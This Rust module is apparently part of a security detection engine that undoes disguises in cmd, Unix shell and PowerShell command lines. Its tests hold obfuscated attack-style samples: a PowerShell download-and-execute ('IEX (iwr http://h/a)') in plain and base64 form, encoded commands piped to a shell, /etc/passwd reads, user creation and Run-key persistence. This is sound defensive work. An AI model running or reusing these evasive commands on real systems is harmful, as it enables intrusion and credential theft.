//! Kind `command`: command lines of Windows and Unix, read as what they do.
//!
//! A line is `cmd.exe`'s, a Unix shell's or PowerShell's; from where `powershell` stands in it on, it is PowerShell's. Each
//! has its disguises undone by its own rules ([`dos`], [`shell`], [`script`](super::script)), then all are written alike:
//! small letters, system folders and `.exe` gone, options with `-`, values of one machine as classes, a line per command.
//!
//! The choice of rules is a guess, and an attacker may try to turn it; then the line keeps a disguise that its shell would
//! undo, and reads strange, not benign.

use std::borrow::Cow;

use super::form::Form;
use super::script::{canonical as script, fold::Undone, mask, measure, names, pieces};
use super::shape::{Feature, Shape, TextKind, plain_class};

pub mod dos;
pub mod generate;
pub mod mapped;
pub mod mutate;
pub(crate) mod parts;
pub mod shell;

use mapped::{Mapped, Sign, count};

/// What the kind brings.
pub static SHAPE: Shape = Shape {
    kind: TextKind::Command,
    version: 1,
    canonical,
    pieces,
    window: 0,
    raw: false,
    class: plain_class,
    signs: SIGNS,
    features: FEATURES,
    measure: measure::script,
};

/// Disguises that were undone, by [`Sign`].
pub const SIGNS: &[&str] = &[
    "carets",
    "quoted_pieces",
    "mixed_case",
    "odd_signs",
    "variables",
    "substrings",
    "joins",
    "codes",
    "edits",
    "decodes",
    "programs",
    "evaluated",
    "indirect",
    "escapes",
    "wildcards",
    "separators",
];

/// What is measured of a piece.
pub const FEATURES: &[Feature] = measure::SCRIPT;

/// Whose rules a line follows.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Rules {
    /// `cmd.exe`.
    Dos,
    /// A Unix shell.
    Shell,
    /// PowerShell.
    PowerShell,
}

fn canonical(text: &str, offset: usize, form: &mut Form) {
    match rules(text) {
        Rules::PowerShell => {
            let mut undone = Undone::default();
            script::write(text, offset, None, 0, &mut undone, &mut |byte, from, to| form.push(byte, from, to));
            tell(&undone, form);
        }
        Rules::Dos => {
            let (mapped, tail) = dos::undo(text, offset, form);
            write(&mapped, 0, tail.unwrap_or(mapped.bytes.len()), Rules::Dos, form);
            if let Some(tail) = tail {
                write_script(&mapped, tail, form);
            }
        }
        Rules::Shell => {
            let mapped = shell::undo(text, offset, None, 0, form);
            write(&mapped, 0, mapped.bytes.len(), Rules::Shell, form);
        }
    }
}

fn tell(undone: &Undone, form: &mut Form) {
    let seen = &undone.seen;
    let counts = [
        (Sign::Carets, seen.backticks),
        (Sign::Quotes, seen.quoted_pieces),
        (Sign::MixedCase, seen.mixed_case),
        (Sign::OddSigns, seen.odd_signs),
        (Sign::Joins, undone.joins.saturating_add(undone.formats)),
        (Sign::Codes, undone.codes),
        (Sign::Edits, undone.edits),
        (Sign::Decodes, undone.decodes),
        (Sign::Programs, undone.programs),
        (Sign::Evaluated, undone.evaluated),
        (Sign::Indirect, undone.indirect),
    ];
    for (sign, times) in counts {
        count(form, sign, times);
    }
}

/// From `tail` on, PowerShell reads the line.
fn write_script(mapped: &Mapped, tail: usize, form: &mut Form) {
    let mut undone = Undone::default();
    let text = mapped.since(tail);
    let raw = |from: usize, to: usize| -> (usize, usize) {
        let start = mapped.places.get(tail + from).or(mapped.places.last()).map_or(0, |place| place.0);
        let end = (tail + to)
            .checked_sub(1)
            .and_then(|last| mapped.places.get(last))
            .map_or(start, |place| place.1.max(start));
        (start as usize, end as usize)
    };
    script::write(text, 0, None, 0, &mut undone, &mut |byte, from, to| {
        let (start, end) = raw(from, to);
        form.push(byte, start, end);
    });
    tell(&undone, form);
}

/// Writes bytes `from..to` word by word.
fn write(mapped: &Mapped, from: usize, to: usize, rules: Rules, form: &mut Form) {
    let bytes = mapped.bytes.get(from..to).unwrap_or(&[]);
    let place = |at: usize| mapped.places.get(from + at).map_or((0, 0), |place| (place.0 as usize, place.1 as usize));
    let mut start = 0usize;
    for end in 0..=bytes.len() {
        let separator = bytes.get(end).copied();
        if separator.is_some_and(|byte| byte != b' ' && byte != b'\n') {
            continue;
        }
        let word = bytes.get(start..end).and_then(|word| std::str::from_utf8(word).ok()).unwrap_or("");
        let (skip, shown) = plain(word, rules);
        match shown {
            Some(shown) => {
                let raw = (place(start).0, place(end.saturating_sub(1)).1.max(place(start).0));
                mask::write(&shown, |_| raw, &mut |byte, from, to| form.push(byte, from, to));
            }
            None => {
                mask::write(word.get(skip..).unwrap_or(""), |at| place(start + skip + at), &mut |byte, from, to| {
                    form.push(byte, from, to)
                })
            }
        }
        if let Some(separator) = separator {
            let (from, to) = place(end);
            form.push(separator, from, to);
        }
        start = end + 1;
    }
}

/// Folders of the system's own programs.
const SYSTEM_FOLDERS: &[&str] = &[
    "c:\\windows\\system32\\wbem\\",
    "c:\\windows\\system32\\windowspowershell\\v1.0\\",
    "c:\\windows\\system32\\",
    "c:\\windows\\syswow64\\",
    "\\windows\\system32\\",
    "c:\\windows\\",
];
const UNIX_FOLDERS: &[&str] = &["/usr/local/sbin/", "/usr/local/bin/", "/usr/sbin/", "/usr/bin/", "/sbin/", "/bin/"];

/// A word without what does not matter: how many bytes to skip, or what to write in its place.
pub(crate) fn plain(word: &str, rules: Rules) -> (usize, Option<Cow<'_, str>>) {
    let folders = if rules == Rules::Dos { SYSTEM_FOLDERS } else { UNIX_FOLDERS };
    let starts = |folder: &&&str| word.get(..folder.len()).is_some_and(|start| start.eq_ignore_ascii_case(folder));
    let skip = folders.iter().find(starts).map_or(0, |folder| folder.len());
    let name = word.get(skip..).unwrap_or("");
    // What lies deeper in these folders keeps its path.
    let skip = if name.contains(['\\', '/']) || name.is_empty() { 0 } else { skip };
    let name = word.get(skip..).unwrap_or("");
    if rules == Rules::Dos {
        let bare = name.len().checked_sub(4).and_then(|at| Some((name.get(..at)?, name.get(at..)?)));
        if let Some((bare, _)) =
            bare.filter(|(bare, suffix)| suffix.eq_ignore_ascii_case(".exe") && !bare.contains(['\\', '/']))
        {
            return (0, Some(Cow::Borrowed(bare)));
        }
        if let Some(option) =
            name.strip_prefix('/').filter(|option| option.len() <= 24 && !option.contains('/') && !option.is_empty())
        {
            return (0, Some(Cow::Owned(format!("-{option}"))));
        }
    }
    (skip, None)
}

/// Programs and built-in commands of Windows.
const WINDOWS_PROGRAMS: &[&str] = &[
    "cmd",
    "net",
    "net1",
    "reg",
    "sc",
    "wmic",
    "schtasks",
    "rundll32",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "mshta",
    "cscript",
    "wscript",
    "vssadmin",
    "wevtutil",
    "bcdedit",
    "icacls",
    "cacls",
    "takeown",
    "tasklist",
    "taskkill",
    "systeminfo",
    "ipconfig",
    "nltest",
    "dsquery",
    "netsh",
    "copy",
    "xcopy",
    "robocopy",
    "del",
    "erase",
    "dir",
    "start",
    "call",
    "if",
    "rem",
    "attrib",
    "findstr",
    "msiexec",
    "at",
    "quser",
    "qwinsta",
    "query",
    "fsutil",
    "cipher",
    "wbadmin",
    "esentutl",
    "ntdsutil",
    "diskshadow",
    "regedit",
    "explorer",
    "control",
    "forfiles",
    "pcalua",
    "cmstp",
    "msbuild",
    "installutil",
    "regasm",
    "regsvcs",
    "odbcconf",
    "gpupdate",
    "gpresult",
    "w32tm",
    "driverquery",
    "assoc",
    "ftype",
    "setx",
    "md",
    "rd",
    "ren",
    "move",
    "cmdkey",
    "vaultcmd",
    "runas",
    "psexec",
    "procdump",
    "tracert",
    "getmac",
    "nbtstat",
    "auditpol",
    "gpfixup",
    "secedit",
    "sfc",
    "dism",
    "svchost",
    "powercfg",
    "shutdown",
    "logoff",
    "pnputil",
    "dsget",
    "csvde",
    "ldifde",
    "adfind",
    "klist",
    "setspn",
    "makecab",
    "expand",
    "compact",
    "hh",
    "print",
    "tscon",
    "mstsc",
    "conhost",
    "timeout",
    "choice",
    "where",
    "type",
    "set",
    "for",
];

/// Whether a word, however disguised, is one of Windows' own programs or commands.
pub fn is_windows_program(word: &str) -> bool {
    let small: String =
        word.chars().filter(|next| !matches!(next, '^' | '"' | '@' | '(')).flat_map(char::to_lowercase).collect();
    let name = small.rsplit(['\\', '/']).next().unwrap_or("");
    let name = name.strip_suffix(".exe").unwrap_or(name);
    WINDOWS_PROGRAMS.contains(&name)
}

/// Names that both systems have, or that Unix has for something else.
const SHARED: &[&str] = &[
    "for", "set", "type", "if", "at", "print", "where", "expand", "compact", "move", "start", "control", "call",
    "timeout", "shutdown", "query", "choice",
];

/// Verbs of PowerShell's commands.
const VERBS: &[&str] = &[
    "get",
    "set",
    "new",
    "remove",
    "add",
    "invoke",
    "start",
    "stop",
    "import",
    "export",
    "convertto",
    "convertfrom",
    "out",
    "write",
    "read",
    "test",
    "clear",
    "copy",
    "move",
    "enable",
    "disable",
    "install",
    "uninstall",
    "restart",
    "resume",
    "register",
    "unregister",
    "select",
    "where",
    "foreach",
    "sort",
    "measure",
    "enter",
    "exit",
    "send",
    "receive",
    "update",
    "rename",
    "checkpoint",
    "compress",
    "expand",
    "connect",
    "disconnect",
    "wait",
    "join",
    "split",
    "resolve",
    "find",
    "save",
    "show",
    "mount",
    "dismount",
    "grant",
    "block",
    "unblock",
    "publish",
];

/// Whose rules a text follows.
pub fn rules(text: &str) -> Rules {
    let head = text.get(..text.floor_char_boundary(4096)).unwrap_or("");
    let small: String = head.chars().filter(|next| !matches!(next, '^' | '`')).flat_map(char::to_lowercase).collect();
    let first = small
        .split(|next: char| next.is_whitespace() || matches!(next, ',' | ';' | '&' | '|'))
        .find(|word| !word.is_empty())
        .unwrap_or("");
    let first: String = first.chars().filter(|next| *next != '"').collect();
    let first = first.as_str();
    let has = |what: &str| small.contains(what);
    if is_powershell_code(&small, first) {
        return Rules::PowerShell;
    }
    let unix = || {
        has("#!/")
            || has("/bin/")
            || has("/etc/")
            || has("/tmp/")
            || has("/dev/")
            || has("$(")
            || has("${")
            || has("sudo ")
            || has("/usr/")
            || has("/var/")
    };
    let program = first.trim_matches(['"', '@', '(']);
    let name = program.rsplit('\\').next().unwrap_or("");
    let name = name.strip_suffix(".exe").unwrap_or(name);
    if is_windows_program(program) && !SHARED.contains(&name)
        || names::is_powershell(program.trim_matches('\'')) && !unix()
    {
        return Rules::Dos;
    }
    let mark = |byte: &[u8]| matches!(byte, [a, b'^', b] if a.is_ascii_alphanumeric() && b.is_ascii_alphanumeric());
    let drive =
        small.as_bytes().windows(3).any(|three| matches!(three, [letter, b':', b'\\'] if letter.is_ascii_alphabetic()));
    let percent = || {
        let mut parts = small.split('%');
        parts.next();
        parts.any(|part| {
            part.len() >= 2
                && part.bytes().all(|byte| {
                    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'(' | b')' | b':' | b'~' | b',' | b'-')
                })
        }) && small.matches('%').count() >= 2
            && !has("printf")
            && !has("date")
            && !has("awk")
            && !has("-format")
            && !has("stat ")
    };
    let windows =
        drive || has(".exe") || has("hklm") || has("hkcu") || has("powershell -") || has("cmd /") || has("c:/windows");
    if windows || !unix() && (percent() || head.as_bytes().windows(3).filter(|three| mark(three)).count() >= 2) {
        return Rules::Dos;
    }
    Rules::Shell
}

fn is_powershell_code(small: &str, first: &str) -> bool {
    let first = first.trim_start_matches(['(', '{', '&', '.', '[']);
    let verb_noun = |word: &str| {
        word.split_once('-').is_some_and(|(verb, noun)| {
            VERBS.contains(&verb) && noun.len() >= 3 && noun.bytes().all(|byte| byte.is_ascii_alphanumeric())
        })
    };
    let has = |what: &str| small.contains(what);
    if first.starts_with('/') || has("#!/") {
        return false;
    }
    let not_unix = !matches!(first, "add-apt" | "start-stop" | "update-grub" | "find-");
    if verb_noun(first) && not_unix
        || matches!(first, "iex" | "iwr" | "irm" | "gwmi" | "icm")
        || first.starts_with("iex(")
    {
        return true;
    }
    if names::is_powershell(first.trim_matches(['"', '\''])) {
        return false;
    }
    // `$x = …`, `[type]::…`, `(New-Object …)`, or a pipeline of cmdlets further on.
    let assigns = small.trim_start().starts_with('$')
        && small.split('\n').next().is_some_and(|line| line.contains('=') || line.contains('.') || line.contains('['));
    let typed = small.trim_start().starts_with(['[', '(', '&', '.'])
        && (has("]::") || has("new-object") || has("get-") || has("[char]") || has("-join") || has(" -f "));
    let cmdlets = || {
        small.split(|next: char| !(next.is_ascii_alphanumeric() || next == '-')).filter(|word| verb_noun(word)).count()
            >= 2
            && !has("powershell")
            && !has("pwsh")
    };
    let shell = has("$(") && has("fi\n") || has("; then") || has("#!/bin");
    (assigns && !shell && !has("${ifs")) || typed || cmdlets() && (has("$") || has("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> String {
        let mut form = Form::new(true);
        canonical(text, 0, &mut form);
        for at in 0..form.bytes().len() {
            let (from, to) = form.place(at).unwrap();
            assert!(from <= to && to as usize <= text.len(), "{from}..{to} of {text}");
        }
        String::from_utf8_lossy(form.bytes()).into_owned()
    }

    #[test]
    fn disguises_of_cmd_are_undone() {
        let cases = [
            ("cmd.exe /c whoami /all", "cmd -c whoami -all"),
            ("c^m^d /c w^hoa^mi /all", "cmd -c whoami -all"),
            ("C:\\Windows\\\\System32\\cmd.exe   /C \"whoami\" /ALL", "cmd -c whoami -all"),
            ("cMd /c wh\"\"oa\"m\"i /all", "cmd -c whoami -all"),
            ("cmd,/c;whoami /all", "cmd -c whoami -all"),
            ("%comspec% /c whoami /all", "cmd -c whoami -all"),
            ("%ComSpec:~-7,3% /c whoami /all", "cmd -c whoami -all"),
            ("cmd /c \"set x=who&& set y=ami&& call %x%%y% /all\"", "cmd -c set x=who\nset y=ami\ncall whoami -all"),
            ("net user Jane P4ss123456 /add", "net user jane p4ss123456 -add"),
            (
                "reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v a /d C:\\Users\\jane\\a.exe",
                "reg add hkcu\\software\\microsoft\\windows\\currentversion\\run -v a -d c:\\users\\<u>\\a.exe",
            ),
            ("ping -n 20 198.51.100.3", "ping -n 0 <i>"),
            (
                "p^ower\"shell\" -NoP -W 1 -C I`E`X (iwr 'http://h/a')",
                "powershell -noprofile -windowstyle hidden -command invoke-expression ( invoke-webrequest http://h/a )",
            ),
            (
                "cmd /c powershell -e aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC8AYQApAA==",
                "cmd -c powershell -encodedcommand invoke-expression ( invoke-webrequest http://h/a )",
            ),
        ];
        for (text, expected) in cases {
            let got = shown(text);
            assert_eq!(got, expected, "{text}");
        }
    }

    #[test]
    fn disguises_of_shells_are_undone() {
        let plain = "cat /etc/passwd";
        let cases = [
            "cat /etc/passwd",
            "/bin/cat /etc/passwd",
            "c'a't /etc/pas''swd",
            "c\\at /e\"t\"c/passwd",
            "cat${IFS}/etc/passwd",
            "cat$IFS/etc/passwd",
            "{cat,/etc/passwd}",
            "c$@at /etc/passwd",
            "$'\\x63\\x61\\x74' /etc/passwd",
            "/???/c?t /etc/passwd",
            "${x:-cat} /etc/passwd",
            "cat   /etc/passwd # comment",
        ];
        for text in cases {
            assert_eq!(shown(text), plain, "{text}");
        }
        for text in [
            "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
            "a=c;b=at;$a$b /etc/passwd",
            "bash<<<$(base64 -d<<<Y2F0IC9ldGMvcGFzc3dk)",
            "echo 'dwssap/cte/ tac' | rev | bash",
            "printf '\\143\\141\\164\\040\\057\\145\\164\\143\\057\\160\\141\\163\\163\\167\\144' | sh",
            "echo 636174202f6574632f706173737764 | xxd -r -p | bash",
        ] {
            assert!(shown(text).contains(plain), "{text}\n{}", shown(text));
        }
    }

    #[test]
    fn rules_are_guessed() {
        let cases = [
            ("find . -name '*.py' -print0 | xargs -0 rm", Rules::Shell),
            ("for f in *; do echo $f; done", Rules::Shell),
            ("$x = Get-Date", Rules::PowerShell),
            ("Get-Process | Stop-Process", Rules::PowerShell),
            ("net user /domain", Rules::Dos),
            ("C:\\a\\b.exe -x", Rules::Dos),
            ("p^i^n^g host", Rules::Dos),
            ("grep '^foo' /etc/hosts", Rules::Shell),
            ("a=b; $a", Rules::Shell),
            ("(New-Object Net.WebClient).DownloadFile('a','b')", Rules::PowerShell),
        ];
        for (text, expected) in cases {
            assert_eq!(rules(text), expected, "{text}");
        }
    }

    #[test]
    fn hostile_lines_cost_bounded_work() {
        let bombs = [
            "%".repeat(60_000),
            "${".repeat(30_000),
            "$".repeat(60_000),
            "'".repeat(60_000),
            "{a,".repeat(20_000),
            "^".repeat(60_000),
            "\\".repeat(60_000),
            format!("set a={}&{}", "x".repeat(4000), "call %a%%a%%a%&".repeat(3000)),
            format!("a={};{}", "x".repeat(4000), "b=$a$a;a=$b$b;".repeat(3000)),
            "echo aaaa| rev".repeat(4000),
            "é^é\"é%é%".repeat(5000),
            "cmd /c \u{202e}".to_owned(),
            "\u{ff43}md /c whoami".to_owned(),
            String::new(),
        ];
        for bomb in &bombs {
            for prefix in ["cmd /c ", "sudo ", "$x = "] {
                let _ = shown(&format!("{prefix}{bomb}"));
            }
        }
    }
}
